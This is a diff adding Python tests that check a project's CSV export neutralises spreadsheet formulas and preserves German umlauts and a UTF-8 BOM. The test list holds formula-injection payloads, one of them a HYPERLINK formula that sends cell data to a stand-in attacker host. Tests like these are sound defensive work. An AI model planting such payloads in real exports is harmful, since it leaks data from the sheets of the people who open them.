@@ -1,0 +1,56 @@
+"""Downloads open safely in spreadsheet programs: formulas neutralised, umlauts intact."""
+
+import codecs
+import io
+
+import pandas as pd
+
+from tonlage.export import csv_bytes, neutralise_formulas
+
+DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klick")', "+1", "-cmd", "@SUM(A1:A9)",
+             "\t=1+1", "\r=1+1"]
+
+
+def test_formula_cells_get_an_apostrophe_and_the_rest_is_unchanged():
+    df = pd.DataFrame({"text": DANGEROUS + ["Grüße aus Köln"], "tone": [-0.42, 0.1, 1, 2, 3, 4, 5]})
+    out = neutralise_formulas(df)
+    assert list(out["text"]) == ["'" + v for v in DANGEROUS] + ["Grüße aus Köln"]
+    assert out["tone"].dtype == float and out["tone"].iloc[0] == -0.42
+    assert df["text"].iloc[0] == DANGEROUS[0]  # the original is not changed
+
+
+def test_column_names_are_neutralised_too():
+    out = neutralise_formulas(pd.DataFrame({"=cmd": ["a"], "Titel": ["b"], 3: ["c"]}))
+    assert list(out.columns) == ["'=cmd", "Titel", 3]
+
+
+def test_non_text_cells_in_mixed_columns_are_left_alone():
+    df = pd.DataFrame({"mixed": [-1, "-1", None, 2.5, "=A1"]})
+    assert neutralise_formulas(df)["mixed"].tolist() == [-1, "'-1", None, 2.5, "'=A1"]
+
+
+def test_string_and_categorical_columns():
+    df = pd.DataFrame({"s": pd.Series(["=1", "ok", None], dtype="string"),
+                       "c": pd.Categorical(["+x", "y", "+x"]),
+                       "d": pd.Categorical(["a", "b", "a"])})
+    out = neutralise_formulas(df)
+    assert out["s"].tolist()[:2] == ["'=1", "ok"] and pd.isna(out["s"].iloc[2])
+    assert out["c"].tolist() == ["'+x", "y", "'+x"]
+    assert isinstance(out["d"].dtype, pd.CategoricalDtype)  # nothing to change: left as it was
+
+
+def test_csv_bytes_has_a_bom_and_round_trips_umlauts():
+    df = pd.DataFrame({"Titel": ["Grüße aus München", "-Straße"], "Ton": [-0.42, 0.5]})
+    data = csv_bytes(df)
+    assert data.startswith(codecs.BOM_UTF8)
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
+    assert back["Titel"].tolist() == ["Grüße aus München", "'-Straße"]
+    assert back["Ton"].tolist() == [-0.42, 0.5]
+    assert list(back.columns) == ["Titel", "Ton"]
+
+
+def test_csv_bytes_neutralises_formulas_and_writes_no_index():
+    text = csv_bytes(pd.DataFrame({"a": ["=HYPERLINK(\"x\")", "@SUM(1)"]}, index=[7, 8])).decode("utf-8-sig")
+    lines = text.splitlines()
+    assert lines[0] == "a"
+    assert lines[1].startswith("\"'=HYPERLINK") and lines[2] == "'@SUM(1)"
